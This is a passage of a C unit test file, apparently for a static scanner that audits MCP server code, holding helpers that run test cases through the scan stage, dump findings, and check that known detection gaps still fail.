				      e->line, e->api ? e->api : "", e->phase ? e->phase : "",
				      e->decoded_by ? e->decoded_by : "", e->env_var ? e->env_var : "");
		}
	}
	for (size_t i = 0; i < r->findings.len; i++) {
		const struct finding *f = r->findings.items[i];
		print_message("    finding %s (%s) host=%s %s:%u phase=%s\n", f->rule_id, severity_name(f->severity),
			      f->host ? f->host : "", f->file ? f->file : "", f->line, f->phase ? f->phase : "");
	}
	for (size_t i = 0; i < r->incomplete.len; i++)
		print_message("    incomplete %s: %s\n", r->incomplete.items[i].file ? r->incomplete.items[i].file : "",
			      r->incomplete.items[i].reason);
}

static bool cases_dump_all;

/* Scan the case's files; NULL when the report meets it, else why not (in why). */
static const char *run_case(const struct resolve_case *c, char *why, size_t len, bool dump)
{
	struct tmpdir t = {.nmade = 0};
	struct report *r = report_new();
	const char *paths[1];
	struct scan_options o = {.paths = paths, .npaths = 1, .jobs = 1};
	char err[512] = "";
	const char *res;

	assert_non_null(r);
	snprintf(t.root, sizeof t.root, "/tmp/mcpaudit-resolve-XXXXXX");
	assert_non_null(mkdtemp(t.root));
	for (size_t i = 0; i < 4 && c->files[i].path; i++)
		write_source(&t, &c->files[i]);
	paths[0] = t.root;
	if (static_stage_run(&o, r, err, sizeof err) != 0) {
		snprintf(why, len, "static_stage_run failed: %s", err);
		res = why;
	} else if (r->files_parsed == 0 || r->files_skipped) {
		snprintf(why, len, "%u parsed, %u skipped", r->files_parsed, r->files_skipped);
		res = why;
	} else {
		res = check_report(r, c, why, len);
	}
	if ((res && dump) || cases_dump_all)
		dump_report(r);
	report_free(r);
	tmpdir_remove(&t);
	return res;
}

static void test_techniques(void **state)
{
	unsigned failed = 0;

	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char why[512];
		if (getenv("RESOLVE_DUMP")) {  /* RESOLVE_DUMP=1: show every report */
			print_message("CASE %s\n", cases[i].technique);
			cases_dump_all = true;
		}
		if (run_case(&cases[i], why, sizeof why, false)) {
			print_message("FAIL %s: %s\n", cases[i].technique, why);
			run_case(&cases[i], why, sizeof why, true);
			failed++;
		}
	}
	if (failed)
		fail_msg("%u of %zu techniques failed", failed, sizeof cases / sizeof cases[0]);
}

static void test_known_gaps_still_fail(void **state)
{
	unsigned fixed = 0;

	(void)state;
	for (size_t i = 0; i < sizeof known_gaps / sizeof known_gaps[0]; i++) {
		char why[512];
		if (!known_gaps[i].technique)
			continue;
		if (!run_case(&known_gaps[i], why, sizeof why, false)) {
			print_message("NOW PASSES (move it to cases[]): %s\n", known_gaps[i].technique);
			fixed++;
		} else {
			print_message("known gap: %s: %s\n", known_gaps[i].technique, why);
		}
	}
	assert_int_equal(fixed, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_techniques),
		cmocka_unit_test(test_known_gaps_still_fail),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
